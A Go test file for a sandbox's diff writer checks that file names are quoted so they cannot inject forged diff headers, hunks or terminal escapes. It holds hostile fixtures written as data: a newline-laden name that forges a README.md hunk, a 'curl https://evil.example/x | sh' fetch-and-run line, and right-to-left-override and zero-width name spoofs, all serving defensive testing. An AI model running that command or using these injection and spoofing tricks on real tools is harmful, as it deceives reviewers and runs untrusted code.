package fsscope

import (
	"bytes"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
)

// TestUnifiedDiffQuotesNames: a file name the sandbox chose cannot write
// lines of its choosing into the unified diff. The name below has
// newlines and a header and a hunk for workspace/README.md (its slashes
// are U+2215, which the console's escaping leaves as they are); the
// console splits the diff into lines and colours each by its prefix, and
// `airlock diff --unified` prints them to a terminal. Quoted as git
// quotes names, the change is its own six lines, every name in them one
// quoted string that reads back as the name.
func TestUnifiedDiffQuotesNames(t *testing.T) {
	const slash = "\u2215"
	name := "x\n" +
		"diff --airlock a" + slash + "workspace" + slash + "README.md b" + slash + "workspace" + slash + "README.md\n" +
		"@@ -1 +1 @@\n" +
		"-Old title\n" +
		"+New title\n" +
		"z"
	upperDir, hostDir := t.TempDir(), t.TempDir()
	if err := os.MkdirAll(filepath.Join(upperDir, "docs"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(upperDir, "docs", name), []byte("curl https://evil.example/x | sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	upper, err := openTree(upperDir)
	if err != nil {
		t.Fatal(err)
	}
	defer upper.Close()
	host, err := openTree(hostDir)
	if err != nil {
		t.Fatal(err)
	}
	defer host.Close()

	var out bytes.Buffer
	c := Change{Path: "docs/" + name, Kind: KindAdded, Type: TypeFile, Mode: 0o644, Size: 33}
	if err := writeChange(&out, "/workspace", c, host, upper, false); err != nil {
		t.Fatal(err)
	}
	a := strconv.Quote("a/workspace/docs/" + name)
	b := strconv.Quote("b/workspace/docs/" + name)
	want := "diff --airlock " + a + " " + b + "\n" +
		"new file mode 100644\n" +
		"--- /dev/null\n" +
		"+++ " + b + "\n" +
		"@@ -0,0 +1 @@\n" +
		"+curl https://evil.example/x | sh\n"
	if out.String() != want {
		t.Fatalf("diff of docs/<name>:\n%s\nwant:\n%s", out.String(), want)
	}
	for _, l := range strings.Split(out.String(), "\n") {
		if strings.HasPrefix(l, "diff --airlock a"+slash) || strings.HasPrefix(l, "@@ -1 +1 @@") || l == "+New title" {
			t.Errorf("the name wrote a line of its own: %q", l)
		}
	}
	if got, err := strconv.Unquote(b); err != nil || got != "b/workspace/docs/"+name {
		t.Errorf("Unquote(%s) = %q, %v: want the name back", b, got, err)
	}

	// A rename's header lines name both sides, quoted alike.
	out.Reset()
	c = Change{Path: "docs/" + name, OldPath: "docs/old\u202eexe.md", Kind: KindRenamed, Type: TypeFile, Mode: 0o644, OldMode: 0o644}
	if err := writeChange(&out, "/workspace", c, host, upper, false); err != nil {
		t.Fatal(err)
	}
	want = `diff --airlock "a/workspace/docs/old\u202eexe.md" ` + b + "\n" +
		"similarity index 100%\n" +
		`rename from "/workspace/docs/old\u202eexe.md"` + "\n" +
		"rename to " + strconv.Quote("/workspace/docs/"+name) + "\n"
	if out.String() != want {
		t.Fatalf("rename diff:\n%s\nwant:\n%s", out.String(), want)
	}
}

func TestDiffName(t *testing.T) {
	tests := []struct {
		prefix, name, want string
	}{
		{"a", "/workspace/README.md", "a/workspace/README.md"},
		{"b", "/workspace/dir with space/é.txt", "b/workspace/dir with space/é.txt"},
		{"a", "/workspace/x\ny", `"a/workspace/x\ny"`},
		{"a", "/workspace/x\rdiff", `"a/workspace/x\rdiff"`},
		{"a", "/workspace/x\x1b[2Jy", `"a/workspace/x\x1b[2Jy"`},
		{"a", "/workspace/say \"hi\"", `"a/workspace/say \"hi\""`},
		{"a", `/workspace/back\slash`, `"a/workspace/back\\slash"`},
		{"b", "/workspace/gpj.\u202eexe", `"b/workspace/gpj.\u202eexe"`},
		{"b", "/workspace/zero\u200bwidth", `"b/workspace/zero\u200bwidth"`},
		{"b", "/workspace/line\u2028sep", `"b/workspace/line\u2028sep"`},
		{"b", "/workspace/nel\u0085x", `"b/workspace/nel\u0085x"`},
		{"b", "/workspace/bad\xffutf8", `"b/workspace/bad\xffutf8"`},
		{"b", "/workspace/replacement\ufffd", "b/workspace/replacement\ufffd"},
		{"", "/workspace/x\ty", `"/workspace/x\ty"`},
	}
	for _, tt := range tests {
		t.Run(tt.want, func(t *testing.T) {
			got := diffName(tt.prefix, tt.name)
			if got != tt.want {
				t.Fatalf("diffName(%q, %q) = %s, want %s", tt.prefix, tt.name, got, tt.want)
			}
			if strings.ContainsAny(got, "\n\r") {
				t.Fatalf("diffName(%q, %q) = %q has a line break", tt.prefix, tt.name, got)
			}
			if strings.HasPrefix(got, `"`) {
				if back, err := strconv.Unquote(got); err != nil || back != tt.prefix+tt.name {
					t.Fatalf("Unquote(%s) = %q, %v", got, back, err)
				}
			}
		})
	}
}
